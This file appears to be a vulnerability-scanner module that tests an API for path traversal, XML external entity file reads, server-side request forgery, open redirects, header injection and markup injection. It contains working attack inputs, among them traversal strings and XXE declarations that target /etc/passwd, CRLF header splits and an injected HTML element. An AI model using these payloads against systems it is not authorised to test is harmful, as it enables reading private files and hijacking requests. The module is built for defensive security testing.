"""Where a value of a request leads the service: to a file, to another host, into a header, into a page.

Each is proved by its effect: a line of a file, a request that arrived at a listener of ours, a header that only the
value named.
"""

from __future__ import annotations

import http.server
import re
import secrets
import threading
import time
from collections.abc import Callable, Iterable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field, replace
from typing import Any
from urllib.parse import urlsplit

from harness.probes.api.inputs import JSON, MARK, objects, plain_name
from harness.probes.api.pages import told_by
from harness.probes.api.request import Hole, Place, RawXml, RequestDraft, succeeded
from harness.probes.api.sites import TextPlace, texts
from harness.probes.api.world import Described, World
from harness.probes.exchange import Exchange
from harness.probes.openapi_operation import names_in_path

_ACCOUNTS_FILE = re.compile(r"root:[^:\n]{0,200}:0:0:")
_WAYS_UP = (
    "../../../../../../../../etc/passwd",
    "/etc/passwd",
    "..%2f..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
    "....//....//....//....//....//....//....//etc/passwd",
    "file:///etc/passwd",
    "@V/../../../../../../../../etc/passwd",
)
_AWAY = ("https://@H/", "//@H/", "/\\@H/", "https:@H", "https://@O@@H/", "https://@O.@H/")
_REDIRECTS = range(300, 400)
_LATE_S = 2.0


@dataclass
class Listener:
    """A server of ours that nobody knows of: whatever arrives was sent by whom we told its address."""

    url: str
    arrived: set[str] = field(default_factory=set)
    answers: dict[str, bytes] = field(default_factory=dict)
    """What it gives for a word; "ok" for others."""

    def address(self) -> tuple[str, str]:
        """An address of its own, and the word that tells it."""
        word = f"{MARK}{secrets.token_hex(8)}"
        return f"{self.url}/{word}", word

    def waits_for(self, word: str, seconds: float = 0.3) -> bool:
        """Did a request with that word arrive?"""
        deadline = time.monotonic() + seconds
        while not (found := any(word in each for each in self.arrived)) and time.monotonic() < deadline:
            time.sleep(0.02)
        return found


@contextmanager
def listening(host: str = "127.0.0.1") -> Iterator[Listener]:
    """A listener on this machine."""
    listener = Listener("")

    class Handler(http.server.BaseHTTPRequestHandler):
        protocol_version: str = "HTTP/1.0"

        def _take(self) -> None:
            listener.arrived.add(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/plain")
            self.end_headers()
            self.wfile.write(listener.answers.get(self.path.strip("/"), b"ok"))

        do_GET = do_POST = do_HEAD = do_PUT = _take  # noqa: N815 - names of the library's

        def log_message(self, *_words: object) -> None:
            """Nothing is printed."""

    with http.server.ThreadingHTTPServer((host, 0), Handler) as server:
        server.daemon_threads = True
        thread = threading.Thread(target=server.serve_forever, daemon=True)
        thread.start()
        try:
            listener.url = f"http://{host}:{server.server_address[1]}"
            yield listener
        finally:
            server.shutdown()
            thread.join()


def files_read(world: World, places: Iterable[TextPlace]) -> Iterator[Hole]:
    """Places whose text names a file of the service's machine."""
    for site in texts(places):
        plain = world.client.tried(site.account, site.draft)
        for way in _WAYS_UP:
            text = way.replace("@V", site.text)
            seen = world.client.tried(site.account, site.put(text))
            found = _ACCOUNTS_FILE.search(seen.text) if seen is not None else None
            if seen is not None and found and not (plain is not None and _ACCOUNTS_FILE.search(plain.text)):
                yield site.hole(f"reads the file that {site.place.told} names: {text!r} gives {found[0]!r}", seen)
                break
    yield from _entities(world)


def _entities(world: World) -> Iterator[Hole]:
    """XML whose document type declares an entity that is a file."""
    for described, send in _documents(world):
        seen = send("file:///etc/passwd")
        if seen is not None and (found := _ACCOUNTS_FILE.search(seen.text)):
            says = f"reads the file that an entity of the XML names: it gives {found[0]!r}"
            yield Hole(operation=described.name, parameter="document type of the body", says=says, proof=(seen,))


def _documents(world: World) -> Iterator[tuple[Described, Callable[[str], Exchange | None]]]:
    """Operations that take XML, described or not, and what sends them a document with an entity from an address."""
    for described in world.operations:
        body = described.inputs.body
        if body is None or described.operation.method == "GET" or described.is_disruptive:
            continue
        xml = _as_xml(world, world.draft(described, world.asker))
        if xml is None:
            continue
        name = str(body.schema.get("xml", {}).get("name", "root"))
        inner = re.sub(r"^<root>|</root>$", "", xml.arguments()["content"].decode())
        with_entity = re.sub(r">[^<]+<", ">&hx;<", inner) if "<" in inner else "&hx;"

        def send(address: str, xml: RequestDraft = xml, name: str = name, inner: str = with_entity) -> Exchange | None:
            text = f'<?xml version="1.0"?><!DOCTYPE {name} [<!ENTITY hx SYSTEM "{address}">]><{name}>{inner}</{name}>'
            return world.client.tried(world.asker, replace(xml, body=RawXml(text)))

        yield described, send


def _as_xml(world: World, draft: RequestDraft) -> RequestDraft | None:
    """The request with a body of XML: described so, or taken though JSON is described."""
    if draft.media_type.endswith("xml"):
        return draft
    xml = replace(draft, media_type="application/xml")
    return xml if draft.media_type == JSON and succeeded(world.client.tried(world.asker, xml)) else None


def requests_elsewhere(world: World, places: Iterable[TextPlace], listener: Listener) -> Iterator[Hole]:
    """Places whose text is an address that the service asks."""
    sent: list[tuple[str, TextPlace, Exchange | None]] = []
    found: set[tuple[str, str]] = set()
    for site in texts(places):
        address, word = listener.address()
        for text in (address, address.replace("http://", "", 1)):
            seen = world.client.tried(site.account, site.put(text))
            sent.append((word, site, seen))
            if listener.waits_for(word, 0.0):
                break
    if sent:
        listener.waits_for(f"{MARK}nobody", min(_LATE_S, 0.5))
    yield from _by_entities(world, listener)
    for word, site, seen in sent:
        key = (site.operation.name, str(site.place))
        if key not in found and listener.waits_for(word, 0.0):
            found.add(key)
            says = f"asks the address that {site.place.told} names: a listener of ours on {listener.url} was asked"
            yield site.hole(says, *([seen] if seen is not None else []))


def _by_entities(world: World, listener: Listener) -> Iterator[Hole]:
    """Entities of XML that are addresses; where they are files too, that is the finding."""
    for described, send in _documents(world):
        address, word = listener.address()
        seen = send(address)
        if seen is None or not listener.waits_for(word, 0.3):
            continue
        file = send("file:///etc/passwd")
        if file is None or not _ACCOUNTS_FILE.search(file.text):
            says = "asks the address that an entity of the XML names: a listener of ours was asked"
            yield Hole(operation=described.name, parameter="document type of the body", says=says, proof=(seen,))


def open_redirects(world: World, places: Iterable[TextPlace]) -> Iterator[Hole]:
    """Places whose text is where the answer redirects to, whatever host that is."""
    own = urlsplit(world.login.info.url).netloc
    for site in texts(places):
        for template in _AWAY:
            host = f"{MARK}{secrets.token_hex(4)}.example.net"
            text = template.replace("@H", host).replace("@O", own)
            seen = world.client.tried(site.account, site.put(text))
            if seen is None or seen.status not in _REDIRECTS:
                if template is _AWAY[1]:
                    break
                continue
            if _leads_to(seen.header("Location") or "", host):
                location = seen.header("Location")
                says = f"redirects to whatever host {site.place.told} names: {text!r} gives Location: {location}"
                yield site.hole(says, seen)
                break


def _leads_to(location: str, host: str) -> bool:
    """Does a browser that follows it end at the host?"""
    plain = re.sub(r"^(https?:)?[/\\]*", "", location.strip(), flags=re.IGNORECASE)
    is_away = re.match(r"\s*(https?:|[/\\]{2})", location, re.IGNORECASE) is not None
    authority = re.split(r"[/\\?#]", plain)[0].rpartition("@")[2]
    return is_away and authority.lower().endswith(host)


def header_injections(world: World, places: Iterable[TextPlace]) -> Iterator[Hole]:
    """Places whose text ends a header of the answer and begins another."""
    for site in texts(places):
        if site.place.where == "header":
            continue
        for end in ("\r\n", "\n"):
            word = f"{MARK}{secrets.token_hex(6)}"
            text = f"{site.text}{end}X-Hx-Made: {word}"
            seen = world.client.tried(site.account, site.put(text))
            if seen is not None and seen.header("X-Hx-Made") == word:
                says = f"writes {site.place.told} into a header of the answer: {text!r} makes a header X-Hx-Made"
                yield site.hole(says, seen)
                break


def markup_injections(world: World, places: Iterable[TextPlace]) -> Iterator[Hole]:
    """Places whose text becomes a part of a page, markup and all: of the answer, or of a page that shows it later."""
    for site in texts(places):
        word = secrets.token_hex(4)
        # without quotes, which may end a text of a query before it gets to the page
        text = f"{MARK}<i{word} onload=x>"
        seen = world.client.tried(site.account, site.put(text))
        if seen is not None and f"<i{word} onload=" in seen.text and _is_html(seen):
            says = f"puts {site.place.told} into a page as markup: {text!r} comes back as an element"
            yield site.hole(says, seen)
        elif succeeded(seen) and site.operation.method != "GET":
            shown = next(_pages_of(world, site, seen, f"<i{word} onload="), None)
            if shown is not None:
                says = f"keeps {site.place.told} as markup: {text!r} is an element of {shown.path}"
                yield site.hole(says, seen, shown)


def _pages_of(world: World, site: TextPlace, made: Exchange, element: str) -> Iterator[Exchange]:
    """Pages about the thing that a write made or changed, which hold an element."""
    value = _named_in(site, made)
    for described in world.reads():
        path = described.operation.path
        names = names_in_path(path)
        ahead = path.partition("{")[0].rstrip("/")
        is_near = site.operation.path.startswith(ahead) or ahead.rpartition("/")[2] in site.operation.path.split("/")
        if not is_near or len(names) > 1 or (names and value is None):
            continue
        draft = world.draft(described, site.account)
        seen = world.client.tried(site.account, draft.put(Place("path", (names[0],)), value) if names else draft)
        if seen is not None and element in seen.text and _is_html(seen):
            yield seen


def _named_in(site: TextPlace, made: Exchange) -> Any:  # noqa: ANN401 - JSON is anything
    """By what the thing is known: what the path of a change named, or what the answer tells; None for nothing."""
    if site.operation.path.count("{") == 1 and site.draft.path:
        return next(iter(site.draft.path.values()))
    told = {plain_name(key): value for each in objects(told_by(made)) for key, value in each.items()}
    return next((told[name] for name in ("id", "uuid", "slug", "key") if isinstance(told.get(name), str | int)), None)


def _is_html(answer: Exchange) -> bool:
    kind = (answer.header("Content-Type") or "").partition(";")[0].strip().lower()
    return kind in ("text/html", "application/xhtml+xml", "image/svg+xml") or (
        not kind and (answer.header("X-Content-Type-Options") or "").lower() != "nosniff"
    )
